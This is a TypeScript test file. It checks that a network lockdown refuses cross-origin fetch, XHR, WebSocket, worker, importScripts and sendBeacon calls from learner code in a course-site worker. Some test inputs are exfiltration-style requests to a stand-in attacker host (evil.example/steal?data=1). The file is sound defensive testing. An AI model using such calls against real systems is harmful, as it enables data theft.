import { describe, expect, test, vi } from 'vitest';
import { lockDownNetwork, NETWORK_REFUSED } from '../../../src/runners/network-lockdown';

function fakeScope() {
  const fetch = vi.fn(async (_input: unknown, _init?: unknown) => 'ok');
  const open = vi.fn();
  class FakeXhr {}
  (FakeXhr.prototype as unknown as { open: unknown }).open = open;
  const scope = {
    location: { href: 'https://course.example/cwc/lesson/', origin: 'https://course.example' },
    fetch,
    XMLHttpRequest: FakeXhr as unknown as { prototype: { open: (...a: unknown[]) => void } },
    WebSocket: class {},
    EventSource: class {},
    Worker: class {},
    SharedWorker: class {},
    importScripts: vi.fn(),
    navigator: { sendBeacon: vi.fn() },
  };
  lockDownNetwork(scope);
  return { scope, fetch, open };
}

describe('the network is closed to learner code in a worker', () => {
  test('fetch to the site itself still works (relative and absolute)', async () => {
    const { scope, fetch } = fakeScope();
    await expect(scope.fetch!('data/ward.csv')).resolves.toBe('ok');
    await expect(scope.fetch!('https://course.example/x.json')).resolves.toBe('ok');
    expect(fetch).toHaveBeenCalledTimes(2);
  });

  test('fetch to another origin is refused with a plain message and never sent', async () => {
    const { scope, fetch } = fakeScope();
    await expect(scope.fetch!('https://evil.example/steal?data=1')).rejects.toThrow(NETWORK_REFUSED);
    await expect(scope.fetch!(new URL('http://course.example/'))).rejects.toThrow(NETWORK_REFUSED); // another scheme is another origin
    expect(fetch).not.toHaveBeenCalled();
  });

  test('XMLHttpRequest, WebSocket, EventSource, nested workers, importScripts and sendBeacon are refused off-site', () => {
    const { scope, open } = fakeScope();
    const xhr = new (scope.XMLHttpRequest as unknown as new () => { open: (m: string, u: string) => void })();
    expect(() => xhr.open('GET', 'https://evil.example/')).toThrow(NETWORK_REFUSED);
    xhr.open('GET', '/cwc/ok.json');
    expect(open).toHaveBeenCalledTimes(1);
    expect(() => new (scope.WebSocket as new (u: string) => unknown)('wss://evil.example')).toThrow(NETWORK_REFUSED);
    expect(() => new (scope.EventSource as new (u: string) => unknown)('/events')).toThrow(NETWORK_REFUSED);
    expect(() => new (scope.Worker as new (u: string) => unknown)('blob:https://course.example/x')).toThrow(NETWORK_REFUSED);
    expect(() => new (scope.SharedWorker as new (u: string) => unknown)('/w.js')).toThrow(NETWORK_REFUSED);
    expect(() => scope.importScripts!('https://cdn.example/x.js')).toThrow(NETWORK_REFUSED);
    expect(() => (scope.navigator.sendBeacon as (u: string) => void)('https://evil.example')).toThrow(NETWORK_REFUSED);
  });

  test('learner code cannot put the real fetch back', () => {
    const { scope } = fakeScope();
    expect(() => {
      'use strict';
      (scope as { fetch: unknown }).fetch = async () => 'sneaky';
    }).toThrow(TypeError);
  });
});
